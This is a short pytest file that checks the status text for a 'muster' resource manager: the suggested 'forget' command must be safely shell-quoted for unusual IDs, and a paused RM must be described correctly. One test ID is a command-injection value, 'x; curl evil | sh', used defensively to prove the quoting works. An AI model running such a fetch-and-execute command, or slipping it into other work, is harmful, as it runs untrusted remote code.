"""The text for an RM's state."""

from __future__ import annotations

import shlex

import pytest
from muster_runtime.rm_words import DISCONNECTED, STATES, STOPPED, description


@pytest.mark.parametrize("rm_id", ["old-cluster", "my cluster", "x; curl evil | sh", "it's"])
def test_the_command_that_forgets_an_rm_can_be_pasted_whatever_its_id_is(rm_id: str) -> None:
    said = description(STOPPED, 0, 0, rm_id=rm_id)
    assert f"`muster admin forget {shlex.quote(rm_id)}`" in said
    command = said.rpartition("`muster ")[2].removesuffix("`.")
    assert shlex.split(command) == ["admin", "forget", rm_id]


@pytest.mark.parametrize("state", STATES)
def test_nothing_is_scheduled_for_a_paused_rm_in_any_state(state: str) -> None:
    said = description(state, 0, 0, paused=True)
    assert "An operator paused it: Muster schedules nothing for it until `muster admin resume`." in said
    assert "placed" not in said
    assert "placed" in description(DISCONNECTED, 0, 0)
